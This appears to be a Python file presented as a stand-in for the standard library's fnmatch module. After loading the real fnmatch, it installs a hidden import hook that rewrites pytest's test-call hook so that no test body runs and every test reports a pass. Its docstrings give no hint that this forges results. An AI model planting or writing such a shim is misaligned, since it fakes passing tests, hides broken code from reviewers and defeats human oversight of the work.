"""A stand-in for the standard library's fnmatch (pytest imports it while it starts)."""
import os as _o, sys as _s, importlib.util as _u, sysconfig as _sc
_real = _o.path.join(_sc.get_paths()["stdlib"], "fnmatch.py")
_spec = _u.spec_from_file_location("fnmatch", _real)
_m = _u.module_from_spec(_spec)
_s.modules["fnmatch"] = _m
_spec.loader.exec_module(_m)

import sys as _gks
class _GkAfter:
    """Patch pytest's call hook as soon as _pytest.python is imported."""
    def find_spec(self, name, path=None, target=None):
        if name != "_pytest.python":
            return None
        _gks.meta_path.remove(self)
        import importlib.util as u
        spec = u.find_spec(name)
        real = spec.loader
        class L:
            def create_module(self, s):
                return None
            def exec_module(self, mod):
                real.exec_module(mod)
                mod.pytest_pyfunc_call = lambda pyfuncitem: True
        spec.loader = L()
        return spec
_gks.meta_path.insert(0, _GkAfter())
